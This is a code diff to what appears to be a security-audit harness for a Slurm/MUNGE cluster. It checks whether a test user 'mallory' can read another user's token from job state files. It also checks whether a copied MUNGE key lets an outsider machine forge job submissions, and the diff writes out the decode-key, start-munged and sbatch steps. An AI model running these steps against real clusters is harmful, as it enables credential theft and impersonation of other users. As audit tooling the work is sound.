@@ -117,7 +117,8 @@ def token_in_state_files(target: Any) -> Observation:
         ),
         "",
     )
-    read = ctl.run(f"cat {STATE_DIR}/hash.*/job.{target.job}/environment >/dev/null", user="mallory")
+    found = ctl.run(f"find {STATE_DIR} -path '*/job.{target.job}/environment'").stdout.strip()
+    read = ctl.run(f"cat {found or STATE_DIR + '/environment'} >/dev/null", user="mallory")
     return Observation(
         {
             "files under StateSaveLocation holding alice's token": int(holding)
@@ -148,7 +149,7 @@ def _forge_from(outsider: Machine, key_b64: str, node: str) -> tuple[str | None,
         f"base64 -d /tmp/stolen-key.b64 > {KEY} && rm /tmp/stolen-key.b64 && chown munge:munge {KEY} "
         f"&& chmod 0400 {KEY} && install -d -o munge -g munge -m 0755 /run/munge "
         "&& runuser -u munge -- /usr/sbin/munged && id -un && "
-        f"sbatch --parsable -w {node} -o /tmp/forged-%j.out --wrap 'id' 2>&1",
+        f"sbatch --parsable -w {node} -t 2 --mem=64M -o /tmp/forged-%j.out --wrap 'id' 2>&1",
         timeout=60,
     )
     job = ran.stdout.strip().splitlines()[-1] if ran.exit_code == 0 else ""
@@ -162,8 +163,8 @@ def munge_key_access(target: Any) -> Observation:
     cluster = target.pool
     lines, modes = [], {}
     for node in cluster.nodes():
-        ran = node.run(f"stat -c '%A %a %U:%G' {KEY}")
-        modes[node.alias] = " ".join(ran.stdout.split()[1:])
+        ran = node.run(f"stat -c '%A %a %U:%G %n' /etc/munge {KEY}")
+        modes[node.alias] = tuple(" ".join(line.split()[1:3]) for line in ran.stdout.splitlines())
         lines.append(f"# {node.alias}\n{ran.transcript}")
     check = cluster.ctl.run(MUNGED_CHECK)
     lines.append(f"# ctl: munged on a copy of the key with mode 0644\n{check.transcript}")
@@ -179,13 +180,16 @@ def munge_key_access(target: Any) -> Observation:
         lines.append(f"# outsider (mallory is root here), with her copy of the key\n{shown}")
         if job:
             out = node.run_when(f"test -s /tmp/forged-{job}.out", f"cat /tmp/forged-{job}.out", wait=60)
-            lines.append(f"# {node.alias}\n{out.transcript}")
+            queued = cluster.squeue("-j", job, "-o", "%i %u %T %r %N")
+            lines.append(f"{queued.transcript}\n# {node.alias}\n{out.transcript}")
             forged = out.stdout.strip() or None
     cluster.submit.run("rm -f /tmp/mallory-key")
     refused = "Keyfile is insecure" in check.stdout and "munged exit=1" in check.stdout
     return Observation(
         {
-            "key file (mode owner:group)": sorted(set(modes.values())),
+            "/etc/munge and its key (mode owner:group)": sorted(
+                {" and ".join(pair) for pair in modes.values()}
+            ),
             "munged refuses a key others can read": refused,
             "mallory reads the key": read.exit_code == 0,
             "job submitted with her copy ran as": forged,
